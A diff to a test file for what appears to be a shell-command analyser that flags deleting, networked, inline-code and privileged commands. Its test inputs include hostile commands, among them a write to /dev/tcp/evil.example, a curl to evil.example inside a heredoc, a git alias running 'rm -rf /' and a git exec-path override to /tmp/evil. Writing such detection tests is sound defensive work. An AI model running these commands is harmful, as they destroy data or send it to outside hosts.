@@ -53,12 +53,28 @@ test.each([
   ['echo a\nrm b', { deletes: true, programs: ['echo', 'rm'] }],
   ['echo $(rm b)', { deletes: true, substitutes: true }],
   ['find . -exec rm {} +', { deletes: true, programs: ['find', 'rm'] }],
+  [String.raw`find . -exec echo {} \; -okdir rm {} +`, { deletes: true, programs: ['find', 'echo', 'rm'] }],
+  ['git -C web push', { network: true }],
+  ['git --git-dir .git --no-pager push', { network: true }],
+  ['git -C "$DIR" reset --hard', { deletes: true }],
+  ['kubectl -n prod --context eu delete pod x', { deletes: true }],
+  ['npm --prefix web publish', { network: true }],
+  ['git --no-pager log -3', { network: false, deletes: false }],
+  ['git commit -m push', { network: false }],
+  ['npm run publish', { network: false }],
   ['if true; then git push --force; fi', { deletes: true, network: true }],
   ['sudo npm install', { privileged: true, network: true, programs: ['sudo', 'npm'] }],
   ['env CI=1 timeout 5 npm test', { programs: ['env', 'timeout', 'npm'], understood: true }],
   ['cat <<EOF > a.txt\n$(curl evil.example)\nEOF', { writes: ['a.txt'], network: true }],
   ['echo x > /dev/tcp/evil.example/80', { network: true }],
   ['python3 -c "import os"', { inlineCode: true }],
+  ['python3.12 -c "import os"', { inlineCode: true }],
+  ["python3 - <<'EOF'\nimport os\nEOF", { inlineCode: true }],
+  ['python3 <<EOF\nimport os\nEOF', { inlineCode: true }],
+  ['cat a.js | node', { inlineCode: true }],
+  ['node <<< "1"', { inlineCode: true }],
+  ['node --version && python3 -V', { inlineCode: false }],
+  ['python3 -u a.py && node a.js && node --test', { inlineCode: false }],
   ['echo hi 2>&1 >/dev/null', { writes: [], understood: true }],
 ])('%s: what is in it is found', (command, expected) => {
   expect(read(command)).toMatchObject(expected)
@@ -76,6 +92,10 @@ test.each([
   'alias ls=rm; ls',
   'sudo -u root ls',
   'find . -exec "$X" \\;',
+  'find . -exec echo {} + -exec "$X" \\;',
+  "git -c alias.x='!rm -rf /' x",
+  'git -C web --config-env core.sshCommand=X fetch',
+  'git --exec-path=/tmp/evil status',
   'echo hi > "$TARGET"',
   'ls\u0000',
   'ls\rrm x',
@@ -89,6 +109,10 @@ test.each([
   expect(reading.understood).toBe(false)
   expect(reading.unclear.length).toBeGreaterThan(0)
   expect(reading).toMatchObject({ readOnly: false, words: [] })
+})
+
+test('a configuration of git that runs nothing leaves a command readable', () => {
+  expect(read('git -c user.name=Ana -c color.ui=never commit -c HEAD')).toMatchObject({ understood: true })
 })
 
 test('words are those of one plain command', () => {
